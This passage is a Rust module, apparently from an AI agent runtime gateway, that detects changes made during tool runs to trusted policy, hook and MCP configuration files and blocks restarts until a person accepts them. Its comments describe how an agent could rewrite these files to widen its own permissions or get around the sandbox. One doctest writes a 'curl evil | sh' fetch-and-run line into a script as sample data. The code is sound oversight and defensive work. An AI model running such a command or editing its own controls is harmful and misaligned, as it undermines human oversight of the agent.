//! Noticing when the files the runtime trusts change while its tools run.
//!
//! Hooks and MCP servers run outside the sandbox, with nobody asked, and the configuration and
//! policy decide what every tool may do: an agent that changed one of them would give itself
//! anything at the next start. The gateway denies tools those files (rule
//! `default.protected`) and the sandbox binds them read-only, but some ways around that
//! protection cannot be closed from inside (a hard link made before the run, a rule granting
//! `sandbox: none`, a module a server loads that its command does not name; see
//! docs/sandbox.md). This module catches what gets through, after the fact and before it is
//! used: a process that runs tools [`TrustBook::begin`]s a session, which fingerprints the
//! trusted files (BLAKE3 of their bytes, or their absence); when it [`Watch::end`]s, a file
//! whose fingerprint moved is recorded as changed, and every later `begin` refuses until a
//! person [`TrustBook::accept`]s the files as they are. A session whose process died (killed,
//! crashed) is compared by the next `begin` in its stead.
//!
//! Changes made between sessions (a person editing the policy) need no acceptance: only a
//! change made while tools ran can be a tool's. A person who edits a file while a run goes on
//! is asked to accept it once, afterwards.
//!
//! The book is a JSON file the caller places outside every workspace (the command line keeps
//! it beside its event database, which tools may not change either). It is written whole,
//! under a lock on its folder, by a rename.
//!
//! ```
//! use agent_runtime_gateway::trust::{TrustBook, TrustError};
//! let dir = tempfile::tempdir().unwrap();
//! let policy = dir.path().join("policy.yaml");
//! std::fs::write(&policy, "rules: []\n").unwrap();
//! let book = TrustBook::new(dir.path().join("trust.json"));
//!
//! let watch = book.begin(&[policy.clone()]).unwrap();
//! std::fs::write(&policy, "rules: [{ id: all, effect: allow }]\n").unwrap(); // while tools ran
//! assert_eq!(watch.end().unwrap().len(), 1);
//!
//! assert!(matches!(book.begin(&[policy.clone()]), Err(TrustError::Changed { .. })));
//! assert_eq!(book.accept(|_| true).unwrap().len(), 1); // a person read it
//! book.begin(&[policy]).unwrap().end().unwrap();
//! ```

use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};

use agent_runtime_core::{Clock, SystemClock, Timestamp};
use serde::{Deserialize, Serialize};

/// Why trust could not be checked, or was refused.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum TrustError {
    /// Trusted files changed while tools ran, and nobody accepted them since.
    #[error("{}", changed_message(changes))]
    Changed {
        /// What changed, oldest first.
        changes: Vec<Change>,
    },
    /// The book could not be read or written.
    #[error("trust record {}: {source}", path.display())]
    Io {
        /// The book's path.
        path: PathBuf,
        /// The system's error.
        source: std::io::Error,
    },
    /// Configuration files found where the process runs (not named by the person) that
    /// nobody accepted yet: see [`TrustBook::check_found`].
    #[error(
        "the configuration found here is not accepted as it is now (new or changed: {}): a \
         configuration the runtime finds by itself in the folder it runs in is loaded only \
         once you have accepted it and the files it names, and again after each change (a tool \
         working in a workspace above this folder could have made or changed them; name a file \
         with --config to load it without this). Read them, then run `agent-runtime trust` in \
         this folder",
        paths.iter().map(|p| p.display().to_string()).collect::<Vec<_>>().join(", ")
    )]
    NotAccepted {
        /// The files.
        paths: Vec<PathBuf>,
    },
    /// The book is not one this build reads (damaged, or from a newer one): nothing is
    /// trusted until it is looked at.
    #[error(
        "trust record {} cannot be read ({message}): look at it, or delete it to start over \
         (what it recorded is then forgotten)",
        path.display()
    )]
    Unreadable {
        /// The book's path.
        path: PathBuf,
        /// What is wrong.
        message: String,
    },
}

fn changed_message(changes: &[Change]) -> String {
    let listed: Vec<String> = changes.iter().map(Change::to_string).collect();
    format!(
        "the runtime's own files changed while another process ran tools: {}. A tool may \
         have changed them, and hooks and MCP servers run outside the sandbox with nobody \
         asked: read them, then accept them as they are with `agent-runtime trust` in their \
         folder (or `agent-runtime trust --all`)",
        listed.join("; ")
    )
}

/// One trusted file that changed during a session.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Change {
    /// The file.
    #[serde(with = "path_text")]
    pub path: PathBuf,
    /// What became of it.
    pub what: ChangeKind,
    /// The process whose session saw it change.
    pub pid: u32,
    /// When that session began.
    pub session_began: Timestamp,
    /// How that session stood when the change was found.
    pub session: SessionState,
}

/// How the session that saw a change stood when it was found.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
#[non_exhaustive]
pub enum SessionState {
    /// It ended by itself and compared.
    Ended,
    /// Its process died; a later one compared for it, so the change may have been made after
    /// it died.
    Died,
    /// It still runs; a later start compared (and is refused: a file changed while tools run
    /// must not be loaded by another process meanwhile).
    Running,
}

impl std::fmt::Display for Change {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let what = match self.what {
            ChangeKind::Modified => "changed",
            ChangeKind::Created => "created",
            ChangeKind::Removed => "removed",
        };
        write!(
            f,
            "{} was {what} during the session of process {} begun {}",
            self.path.display(),
            self.pid,
            self.session_began
        )?;
        match self.session {
            SessionState::Ended => Ok(()),
            SessionState::Died => f.write_str(" (which died; perhaps after)"),
            SessionState::Running => f.write_str(" (still running)"),
        }
    }
}

/// What became of a trusted file.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ChangeKind {
    /// Its bytes changed (or it could no longer be read).
    Modified,
    /// It was not there, and now is (a configuration file the next start would load).
    Created,
    /// It was there, and now is not.
    Removed,
}

/// A file's fingerprint: the BLAKE3 of its bytes in hex, `None` when it is not there.
type Fingerprint = Option<String>;

/// Files pinned as they were when a hook or an MCP server was configured: checked before each
/// time it starts, so that a script a tool changed under a running gateway (and perhaps put
/// back before the session's end) is not run outside the sandbox.
///
/// ```
/// use agent_runtime_gateway::trust::Pinned;
/// let dir = tempfile::tempdir().unwrap();
/// let script = dir.path().join("check.sh");
/// std::fs::write(&script, "exit 0").unwrap();
/// let pinned = Pinned::take(vec![script.clone()]);
/// assert_eq!(pinned.moved(), None);
/// std::fs::write(&script, "curl evil | sh").unwrap();
/// assert_eq!(pinned.moved(), Some(script.as_path()));
/// ```
#[derive(Clone, Debug, Default)]
pub struct Pinned(Vec<(PathBuf, Fingerprint, Option<Stamp>)>);

/// What `stat` says of a file that changes with any write to it: device, inode, size, and
/// modification and change times (the change time cannot be set back by the writer). Equal,
/// the file is taken as unchanged without reading it again: a hook run with a 100 MB
/// interpreter given as a path would otherwise hash it at every call.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Stamp {
    dev: u64,
    ino: u64,
    size: u64,
    mtime_ns: i128,
    ctime_ns: i128,
    folder: bool,
}

impl Stamp {
    fn of(path: &Path) -> Option<Stamp> {
        use std::os::unix::fs::MetadataExt;
        let m = std::fs::metadata(path).ok()?;
        let ns = |s: i64, n: i64| i128::from(s) * 1_000_000_000 + i128::from(n);
        Some(Stamp {
            dev: m.dev(),
            ino: m.ino(),
            size: m.size(),
            mtime_ns: ns(m.mtime(), m.mtime_nsec()),
            ctime_ns: ns(m.ctime(), m.ctime_nsec()),
            folder: m.is_dir(),
        })
    }
}

impl Pinned {
    /// The files' fingerprints now.
    pub fn take(files: Vec<PathBuf>) -> Self {
        Pinned(
            files
                .into_iter()
                .map(|f| {
                    // Stamped before it is read: a write while it is read changes the stamp.
                    let stamp = Stamp::of(&f);
                    let fp = fingerprint(&f);
                    (f, fp, stamp)
                })
                .collect(),
        )
    }

    /// The first file whose bytes (or presence) differ from when they were taken.
    pub fn moved(&self) -> Option<&Path> {
        self.0
            .iter()
            .find(|(path, before, stamp)| Self::differs(path, before, stamp))
            .map(|(path, _, _)| path.as_path())
    }

    /// Every file (or folder: its entries) whose bytes or presence differ from when taken.
    pub fn moved_all(&self) -> Vec<&Path> {
        self.0
            .iter()
            .filter(|(path, before, stamp)| Self::differs(path, before, stamp))
            .map(|(path, _, _)| path.as_path())
            .collect()
    }

    fn differs(path: &Path, before: &Fingerprint, stamp: &Option<Stamp>) -> bool {
        // A folder's stamp says nothing of a file in it changing: it is read again.
        let now = Stamp::of(path).filter(|s| !s.folder);
        !(now.is_some() && now == *stamp) && fingerprint(path) != *before
    }

    /// [`Pinned::moved`] off the async threads, as what a hook or an MCP server answers before
    /// it starts: `Err` names the file that moved.
    pub async fn refuse_moved(&self) -> Result<(), String> {
        if self.is_empty() {
            return Ok(());
        }
        let pinned = self.clone();
        let moved = tokio::task::spawn_blocking(move || pinned.moved().map(Path::to_path_buf))
            .await
            .map_err(|e| e.to_string())?;
        match moved {
            None => Ok(()),
            Some(path) => Err(format!(
                "{} changed since the gateway started (a tool may have changed it, and it runs \
                 outside the sandbox): not started; restart to load it",
                path.display()
            )),
        }
    }

    /// Whether no file is pinned.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

/// The book's contents.
#[derive(Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Book {
    /// The format, 1.
    version: u32,
    /// Sessions begun and not ended.
    #[serde(default)]
    sessions: Vec<Session>,
    /// Changes nobody accepted yet.
    #[serde(default)]
    changed: Vec<Change>,
    /// Configuration files found in the folder a process ran in that a person accepted
    /// ([`TrustBook::accept_found`]).
    #[serde(default)]
    accepted_found: Vec<Accepted>,
}

/// A found configuration file a person accepted.
#[derive(Clone, Debug, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Accepted {
    #[serde(with = "path_text")]
    path: PathBuf,
    /// As it was accepted: an edit (anyone's) needs accepting again, as `direnv allow` does.
    fingerprint: Fingerprint,
}

const BOOK_VERSION: u32 = 1;

/// How long [`TrustBook`] waits for another process's hold on the book.
pub const LOCK_WAIT: std::time::Duration = std::time::Duration::from_secs(10);

#[derive(Clone, Debug, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Session {
    /// Unique among the sessions of the book.
    id: String,
    pid: u32,
    /// The process's start time in clock ticks since boot (`/proc/PID/stat`), which tells a
    /// live process from a later one given the same pid; `None` where it cannot be read.
    pid_start: Option<u64>,
    began: Timestamp,
    files: Vec<Mark>,
}

/// A file's fingerprint when a session began.
#[derive(Clone, Debug, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Mark {
    #[serde(with = "path_text")]
    path: PathBuf,
    fingerprint: Fingerprint,
}

/// Paths in the book: a JSON string, or for a path that is not UTF-8 (which JSON strings cannot
/// hold) `{"unix_bytes_hex": "..."}`, so that it is read back as the same path.
mod path_text {
    use std::os::unix::ffi::{OsStrExt, OsStringExt};
    use std::path::{Path, PathBuf};

    use serde::{Deserialize, Deserializer, Serialize, Serializer};

    #[derive(Serialize, Deserialize)]
    #[serde(untagged)]
    enum Repr {
        Text(String),
        Bytes { unix_bytes_hex: String },
    }

    pub fn serialize<S: Serializer>(path: &Path, s: S) -> Result<S::Ok, S::Error> {
        match path.to_str() {
            Some(text) => Repr::Text(text.to_string()),
            None => Repr::Bytes {
                unix_bytes_hex: path
                    .as_os_str()
                    .as_bytes()
                    .iter()
                    .map(|b| format!("{b:02x}"))
                    .collect(),
            },
        }
        .serialize(s)
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<PathBuf, D::Error> {
        match Repr::deserialize(d)? {
            Repr::Text(text) => Ok(PathBuf::from(text)),
            Repr::Bytes { unix_bytes_hex } => {
                let hex = unix_bytes_hex.as_bytes();
                if hex.len() % 2 != 0 {
                    return Err(serde::de::Error::custom("odd number of hex digits"));
                }
                let bytes = hex
                    .chunks(2)
                    .map(|pair| {
                        std::str::from_utf8(pair)
                            .ok()
                            .and_then(|p| u8::from_str_radix(p, 16).ok())
                            .ok_or_else(|| serde::de::Error::custom("not hex"))
                    })
                    .collect::<Result<Vec<u8>, D::Error>>()?;
                Ok(PathBuf::from(std::ffi::OsString::from_vec(bytes)))
            }
        }
    }
}

/// The record of sessions and unaccepted changes: see the [module](self).
#[derive(Clone, Debug)]
pub struct TrustBook {
    path: PathBuf,
}

/// A session begun by [`TrustBook::begin`]: ends with [`Watch::end`], or when dropped (what
/// changed is then recorded without being returned).
#[derive(Debug)]
#[must_use = "a session ends when its watch is dropped"]
pub struct Watch {
    book: TrustBook,
    /// The session as it began, kept here too: compared at the end whatever became of the
    /// book's copy (a tool that could write the book could erase it).
    session: Session,
    ended: bool,
}

impl TrustBook {
    /// The book at `path` (made at the first [`begin`](Self::begin)). Keep it outside every
    /// folder tools may write.
    pub fn new(path: impl Into<PathBuf>) -> Self {
        TrustBook { path: path.into() }
    }

    /// Where the book is.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Begins a session over `files` (absolute paths; absent ones count: a configuration file
    /// that appears is a change). Refuses with [`TrustError::Changed`] while one of `files` has
    /// a change not accepted: recorded by an earlier session, found now for a session whose
    /// process died, or found now in a session still running. Changes to other files (another
    /// project's) do not hold this one up.
    pub fn begin(&self, files: &[PathBuf]) -> Result<Watch, TrustError> {
        static NEXT: AtomicU64 = AtomicU64::new(0);
        let pid = std::process::id();
        let pid_start = process_start(pid);
        let session = Session {
            id: format!(
                "{pid}-{}-{}",
                pid_start.unwrap_or(0),
                NEXT.fetch_add(1, Ordering::Relaxed)
            ),
            pid,
            pid_start,
            began: SystemClock.now(),
            files: files
                .iter()
                .map(|f| Mark {
                    path: f.clone(),
                    fingerprint: fingerprint(f),
                })
                .collect(),
        };
        self.update(|book| {
            settle_dead_sessions(book);
            let mut holding: Vec<Change> = book
                .changed
                .iter()
                .filter(|c| files.contains(&c.path))
                .cloned()
                .collect();
            for live in &book.sessions {
                holding.extend(
                    compare(live, SessionState::Running)
                        .into_iter()
                        .filter(|c| files.contains(&c.path)),
                );
            }
            if !holding.is_empty() {
                return Err(TrustError::Changed { changes: holding });
            }
            book.sessions.push(session.clone());
            Ok(())
        })?;
        Ok(Watch {
            book: self.clone(),
            session,
            ended: false,
        })
    }

    /// The changes not accepted yet (with those of sessions whose process died, which are
    /// recorded now).
    pub fn pending(&self) -> Result<Vec<Change>, TrustError> {
        self.update(|book| {
            settle_dead_sessions(book);
            let mut all = book.changed.clone();
            for live in &book.sessions {
                all.extend(compare(live, SessionState::Running));
            }
            Ok(all)
        })
    }

    /// Refuses ([`TrustError::NotAccepted`]) the configuration files in `found` (those the
    /// process found by itself in the folder it runs in, such as `.agent-runtime/gateway.yaml`,
    /// rather than ones a person named) that a person has not accepted with
    /// [`TrustBook::accept_found`], or that changed since (the sandbox keeps a workspace
    /// root's own `.agent-runtime` folder read-only, but a tool can make or change one in any
    /// folder below it, which a later start run from there would load, and which no session
    /// that started elsewhere watches).
    pub fn check_found(&self, found: &[PathBuf]) -> Result<(), TrustError> {
        if found.is_empty() {
            return Ok(());
        }
        let now: Vec<(PathBuf, Fingerprint)> =
            found.iter().map(|f| (f.clone(), fingerprint(f))).collect();
        self.update(|book| {
            let missing: Vec<PathBuf> = now
                .iter()
                .filter(|(f, fp)| {
                    !book
                        .accepted_found
                        .iter()
                        .any(|a| &a.path == f && &a.fingerprint == fp)
                })
                .map(|(f, _)| f.clone())
                .collect();
            if missing.is_empty() {
                Ok(())
            } else {
                Err(TrustError::NotAccepted { paths: missing })
            }
        })
    }

    /// Accepts configuration files found in a folder as they are now (see
    /// [`TrustBook::check_found`]): a person read them, or wrote them with the runtime's own
    /// command (`mcp add`). Returns those not accepted so before.
    pub fn accept_found(&self, found: &[PathBuf]) -> Result<Vec<PathBuf>, TrustError> {
        let now: Vec<(PathBuf, Fingerprint)> =
            found.iter().map(|f| (f.clone(), fingerprint(f))).collect();
        self.update(|book| {
            let mut new = Vec::new();
            for (path, fp) in now {
                match book.accepted_found.iter_mut().find(|a| a.path == path) {
                    Some(a) if a.fingerprint == fp => continue,
                    Some(a) => a.fingerprint = fp,
                    None => book.accepted_found.push(Accepted {
                        path: path.clone(),
                        fingerprint: fp,
                    }),
                }
                new.push(path);
            }
            Ok(new)
        })
    }

    /// Accepts the files of the changes `which` selects as they are now: forgets those changes
    /// (returned). Sessions whose process died are settled first; live ones go on (and a change
    /// they see later is recorded when they end).
    pub fn accept(&self, which: impl Fn(&Change) -> bool) -> Result<Vec<Change>, TrustError> {
        self.update(|book| {
            settle_dead_sessions(book);
            let (mut accepted, kept): (Vec<Change>, Vec<Change>) =
                std::mem::take(&mut book.changed)
                    .into_iter()
                    .partition(|c| which(c));
            book.changed = kept;
            // A file that moved under a session still running: its mark becomes the file as
            // it is now, which the session's end then takes for accepted (a start it held up
            // goes ahead at once).
            for live in &mut book.sessions {
                for change in compare(live, SessionState::Running) {
                    if !which(&change) {
                        continue;
                    }
                    if let Some(mark) = live.files.iter_mut().find(|m| m.path == change.path) {
                        mark.fingerprint = fingerprint(&change.path);
                    }
                    accepted.push(change);
                }
            }
            Ok(accepted)
        })
    }

    /// Reads the book, lets `change` act on it, and writes it back, under an exclusive lock on
    /// the book's folder (not the file, which the write replaces).
    fn update<T>(
        &self,
        change: impl FnOnce(&mut Book) -> Result<T, TrustError>,
    ) -> Result<T, TrustError> {
        let io = |source| TrustError::Io {
            path: self.path.clone(),
            source,
        };
        let dir = agent_runtime_core::fs::folder_of(&self.path);
        std::fs::create_dir_all(&dir).map_err(io)?;
        let _lock = self.lock()?;
        let mut read = None;
        let mut book = match std::fs::read(&self.path) {
            Ok(bytes) => {
                let book: Book =
                    serde_json::from_slice(&bytes).map_err(|e| TrustError::Unreadable {
                        path: self.path.clone(),
                        message: e.to_string(),
                    })?;
                if book.version != BOOK_VERSION {
                    return Err(TrustError::Unreadable {
                        path: self.path.clone(),
                        message: format!(
                            "format {}, where this build reads {BOOK_VERSION}",
                            book.version
                        ),
                    });
                }
                read = Some(bytes);
                book
            }
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Book {
                version: BOOK_VERSION,
                ..Book::default()
            },
            Err(e) => return Err(io(e)),
        };
        // A change to a file whose folder is gone (a temporary workspace deleted, a project
        // removed) can hold nothing up any more: no start loads from a folder that is not
        // there, and one made again later is a person's.
        let there = |path: &Path| path.parent().is_none_or(|folder| folder.is_dir());
        book.changed.retain(|c| there(&c.path));
        book.accepted_found.retain(|a| there(&a.path));
        let out = change(&mut book);
        // Written even when `change` refused (dead sessions settled meanwhile are kept), and
        // only when something changed: looking makes no file.
        let text = serde_json::to_vec_pretty(&book).map_err(|e| io(std::io::Error::other(e)))?;
        let empty =
            book.sessions.is_empty() && book.changed.is_empty() && book.accepted_found.is_empty();
        if empty {
            // Nothing to keep: no file left behind (a test suite's runs leave none).
            if read.is_some() {
                std::fs::remove_file(&self.path).map_err(io)?;
            }
        } else if read.as_ref() != Some(&text) {
            agent_runtime_core::fs::replace(&self.path, |f| std::io::Write::write_all(f, &text))
                .map_err(io)?;
        }
        out
    }

    /// The lock file beside the book (`trust.json.lock`), for tools as protected as the book
    /// (see [`TrustBook::files`]).
    fn lock_path(&self) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(".lock");
        PathBuf::from(name)
    }

    /// The book's files, which tools must not be able to change: the book and its lock.
    pub fn files(&self) -> Vec<PathBuf> {
        vec![self.path.clone(), self.lock_path()]
    }

    /// Takes the exclusive lock on [`TrustBook::lock_path`], waiting at most [`LOCK_WAIT`]:
    /// each holder keeps it for a read and a write, so a longer wait means a stuck one, which
    /// is named rather than waited for without a word.
    fn lock(&self) -> Result<std::fs::File, TrustError> {
        let path = self.lock_path();
        let io = |source| TrustError::Io {
            path: path.clone(),
            source,
        };
        let file = std::fs::OpenOptions::new()
            .create(true)
            .truncate(false)
            .write(true)
            .open(&path)
            .map_err(io)?;
        let deadline = std::time::Instant::now() + LOCK_WAIT;
        loop {
            match file.try_lock() {
                Ok(()) => return Ok(file),
                Err(std::fs::TryLockError::WouldBlock) if std::time::Instant::now() < deadline => {
                    std::thread::sleep(std::time::Duration::from_millis(20));
                }
                Err(std::fs::TryLockError::WouldBlock) => {
                    return Err(io(std::io::Error::other(format!(
                        "another process has held its lock ({}) for over {} s",
                        path.display(),
                        LOCK_WAIT.as_secs()
                    ))));
                }
                Err(std::fs::TryLockError::Error(e)) => return Err(io(e)),
            }
        }
    }
}

impl Watch {
    /// Ends the session: the trusted files that changed since it began, which every later
    /// [`TrustBook::begin`] refuses over until they are accepted.
    pub fn end(mut self) -> Result<Vec<Change>, TrustError> {
        self.finish()
    }

    fn finish(&mut self) -> Result<Vec<Change>, TrustError> {
        self.ended = true;
        let session = &self.session;
        self.book.update(|book| {
            // The book's copy: what a person accepted while the session ran (see
            // `TrustBook::accept`). Compared with what the session began with, kept here: a
            // copy that is gone or emptied accepts nothing.
            let copy = book
                .sessions
                .iter()
                .position(|s| s.id == session.id)
                .map(|at| book.sessions.remove(at));
            let accepted = |c: &Change| {
                copy.as_ref().is_some_and(|s| {
                    s.files
                        .iter()
                        .any(|m| m.path == c.path && m.fingerprint == fingerprint(&c.path))
                })
            };
            let changes: Vec<Change> = compare(session, SessionState::Ended)
                .into_iter()
                .filter(|c| !accepted(c))
                .collect();
            for c in &changes {
                if !book.changed.contains(c) {
                    book.changed.push(c.clone());
                }
            }
            Ok(changes)
        })
    }
}

impl Drop for Watch {
    fn drop(&mut self) {
        if !self.ended {
            let _ = self.finish();
        }
    }
}

/// Compares the sessions of processes that are gone with the files now, recording what moved,
/// and drops them.
fn settle_dead_sessions(book: &mut Book) {
    let (dead, live): (Vec<Session>, Vec<Session>) = std::mem::take(&mut book.sessions)
        .into_iter()
        .partition(|s| !is_alive(s.pid, s.pid_start));
    book.sessions = live;
    for session in dead {
        book.changed.extend(compare(&session, SessionState::Died));
    }
}

/// The session's files whose fingerprint moved since it began.
fn compare(session: &Session, state: SessionState) -> Vec<Change> {
    session
        .files
        .iter()
        .filter_map(
            |Mark {
                 path,
                 fingerprint: before,
             }| {
                let now = fingerprint(path);
                let what = match (before, &now) {
                    (a, b) if a == b => return None,
                    (None, Some(_)) => ChangeKind::Created,
                    (Some(_), None) => ChangeKind::Removed,
                    _ => ChangeKind::Modified,
                };
                Some(Change {
                    path: path.clone(),
                    what,
                    pid: session.pid,
                    session_began: session.began,
                    session: state,
                })
            },
        )
        .collect()
}

/// The BLAKE3 of the file's bytes (links followed), `None` when there is no file; one that
/// cannot be read gets a fingerprint saying so, which differs from any content's.
pub(crate) fn fingerprint(path: &Path) -> Fingerprint {
    // A folder (a hooks folder): its entries' names and their fingerprints, one level deep.
    if std::fs::metadata(path).is_ok_and(|m| m.is_dir()) {
        let Ok(entries) = std::fs::read_dir(path) else {
            return Some("unreadable folder".into());
        };
        let mut names: Vec<std::ffi::OsString> = entries
            .filter_map(|e| e.ok().map(|e| e.file_name()))
            .collect();
        names.sort();
        let mut hasher = blake3::Hasher::new();
        hasher.update(b"folder\0");
        for name in names {
            let entry = path.join(&name);
            hasher.update(name.as_encoded_bytes());
            hasher.update(b"\0");
            if entry.is_file() {
                hasher.update(fingerprint(&entry).unwrap_or_default().as_bytes());
            }
            hasher.update(b"\0");
        }
        return Some(format!("folder:{}", hasher.finalize().to_hex()));
    }
    // Opened without waiting, then looked at through the open file: a FIFO (or a link to a
    // device) put where a trusted file was would block the open or never end the read, and the
    // checks run under the record's lock, where every other process waits.
    let mut open = std::fs::OpenOptions::new();
    open.read(true);
    #[cfg(unix)]
    std::os::unix::fs::OpenOptionsExt::custom_flags(&mut open, libc::O_NONBLOCK);
    let mut file = match open.open(path) {
        Ok(f) => f,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return None,
        Err(e) => return Some(format!("unreadable: {}", e.kind())),
    };
    if !file.metadata().is_ok_and(|m| m.is_file()) {
        return Some("not a regular file".into());
    }
    let mut hasher = blake3::Hasher::new();
    let mut buf = vec![0u8; 64 * 1024];
    loop {
        match file.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => {
                hasher.update(&buf[..n]);
            }
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            // A folder, or an error mid-way.
            Err(e) => return Some(format!("unreadable: {}", e.kind())),
        }
    }
    Some(hasher.finalize().to_hex().to_string())
}

/// The start time of process `pid` in clock ticks since boot (field 22 of `/proc/PID/stat`).
fn process_start(pid: u32) -> Option<u64> {
    start_time_of_stat(&std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?)
}

/// The start time (field 22) of a `/proc/PID/stat` line.
fn start_time_of_stat(stat: &str) -> Option<u64> {
    // The command name (field 2) is in parentheses and may hold spaces or parentheses: the
    // fields after it start after the last `)`.
    let rest = &stat[stat.rfind(')')? + 1..];
    rest.split_whitespace().nth(19)?.parse().ok()
}

/// Whether the process that began a session still runs: its pid is taken, by a process
/// started when it was (a pid is reused by later processes).
fn is_alive(pid: u32, start: Option<u64>) -> bool {
    let Ok(pid_t) = libc::pid_t::try_from(pid) else {
        return false;
    };
    // SAFETY: signal 0 only checks that the process exists and may be signalled.
    let exists = unsafe { libc::kill(pid_t, 0) } == 0
        || std::io::Error::last_os_error().raw_os_error() == Some(libc::EPERM);
    exists && (start.is_none() || process_start(pid) == start)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn files(dir: &Path) -> Vec<PathBuf> {
        vec![dir.join("policy.yaml"), dir.join("gateway.yaml")]
    }

    /// A FIFO where a trusted file was is fingerprinted at once, as something else than any
    /// content: opening it to read waited for a writer that never came.
    #[test]
    fn a_fifo_in_a_trusted_file_s_place_does_not_hang() {
        let dir = tempfile::tempdir().unwrap();
        let fifo = dir.path().join("policy.yaml");
        let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
        // SAFETY: `c` is a NUL-terminated path.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || tx.send(fingerprint(&fifo)));
        let got = rx
            .recv_timeout(std::time::Duration::from_secs(60))
            .expect("fingerprinting a FIFO hung");
        assert_eq!(got.as_deref(), Some("not a regular file"));
    }

    #[test]
    fn changes_between_sessions_need_no_acceptance() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("policy.yaml"), "a").unwrap();
        let book = TrustBook::new(dir.path().join("book/trust.json"));
        assert!(
            book.begin(&files(dir.path()))
                .unwrap()
                .end()
                .unwrap()
                .is_empty()
        );
        // A person edits the policy, and makes a configuration file, between runs.
        std::fs::write(dir.path().join("policy.yaml"), "b").unwrap();
        std::fs::write(dir.path().join("gateway.yaml"), "c").unwrap();
        let watch = book.begin(&files(dir.path())).unwrap();
        assert!(watch.end().unwrap().is_empty());
        assert!(book.pending().unwrap().is_empty());
        // Nothing left to record: the book says so (looking alone makes none).
        let fresh = TrustBook::new(dir.path().join("none/trust.json"));
        assert!(fresh.pending().unwrap().is_empty());
        assert!(!fresh.path().exists());
    }

    #[test]
    fn a_change_during_a_session_is_refused_until_accepted() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("policy.yaml"), "a").unwrap();
        let book = TrustBook::new(dir.path().join("trust.json"));
        let watch = book.begin(&files(dir.path())).unwrap();
        std::fs::write(dir.path().join("gateway.yaml"), "hooks").unwrap();
        std::fs::remove_file(dir.path().join("policy.yaml")).unwrap();
        let changes = watch.end().unwrap();
        let kinds: Vec<(String, ChangeKind)> = changes
            .iter()
            .map(|c| {
                let name = c.path.file_name().unwrap().to_string_lossy().into_owned();
                (name, c.what)
            })
            .collect();
        assert_eq!(
            kinds,
            [
                ("policy.yaml".to_string(), ChangeKind::Removed),
                ("gateway.yaml".to_string(), ChangeKind::Created)
            ]
        );
        let err = book.begin(&files(dir.path())).unwrap_err();
        let message = err.to_string();
        assert!(message.contains("gateway.yaml was created during the session of process"));
        assert!(message.contains("agent-runtime trust"), "{message}");
        // Refused again until accepted; then a session begins.
        assert!(book.begin(&files(dir.path())).is_err());
        assert_eq!(book.accept(|_| true).unwrap(), changes);
        book.begin(&files(dir.path())).unwrap().end().unwrap();
    }

    #[test]
    fn a_dropped_watch_records_like_end() {
        let dir = tempfile::tempdir().unwrap();
        let book = TrustBook::new(dir.path().join("trust.json"));
        let watch = book.begin(&files(dir.path())).unwrap();
        std::fs::write(dir.path().join("policy.yaml"), "rules").unwrap();
        drop(watch);
        assert_eq!(book.pending().unwrap().len(), 1);
    }

    /// The session of a process that died (killed mid-run) is compared by the next one: a
    /// change found then is refused too; no change, and it is simply forgotten.
    #[test]
    fn a_dead_process_s_session_is_compared_by_the_next() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("policy.yaml"), "a").unwrap();
        let book_path = dir.path().join("trust.json");
        let book = TrustBook::new(&book_path);
        let mut child = std::process::Command::new("sleep")
            .arg("30")
            .spawn()
            .unwrap();
        let dead = child.id();
        child.kill().unwrap();
        child.wait().unwrap();
        let plant = |files: Vec<Mark>| {
            let planted = Book {
                version: BOOK_VERSION,
                sessions: vec![Session {
                    id: "dead".into(),
                    pid: dead,
                    pid_start: Some(1),
                    began: Timestamp::EPOCH,
                    files,
                }],
                changed: vec![],
                accepted_found: vec![],
            };
            std::fs::write(&book_path, serde_json::to_vec(&planted).unwrap()).unwrap();
        };
        let now: Vec<Mark> = files(dir.path())
            .into_iter()
            .map(|f| Mark {
                fingerprint: fingerprint(&f),
                path: f,
            })
            .collect();
        plant(now.clone());
        book.begin(&files(dir.path())).unwrap().end().unwrap();
        let mut before = now;
        before[0].fingerprint = Some("0".repeat(64)); // policy.yaml
        plant(before);
        let err = book.begin(&files(dir.path())).unwrap_err().to_string();
        assert!(err.contains("policy.yaml was changed"), "{err}");
        assert!(err.contains("(which died; perhaps after)"), "{err}");
    }

    /// A live session of another process is left alone (not taken for a dead one).
    #[test]
    fn live_sessions_are_not_settled_but_hold_up_a_start() {
        let dir = tempfile::tempdir().unwrap();
        let book = TrustBook::new(dir.path().join("trust.json"));
        let first = book.begin(&files(dir.path())).unwrap();
        // Another start while nothing moved goes ahead.
        let second = book.begin(&files(dir.path())).unwrap();
        std::fs::write(dir.path().join("policy.yaml"), "x").unwrap();
        // A third, once a file moved under the live sessions, is refused: the first one is
        // not taken for dead, and records the change itself when it ends.
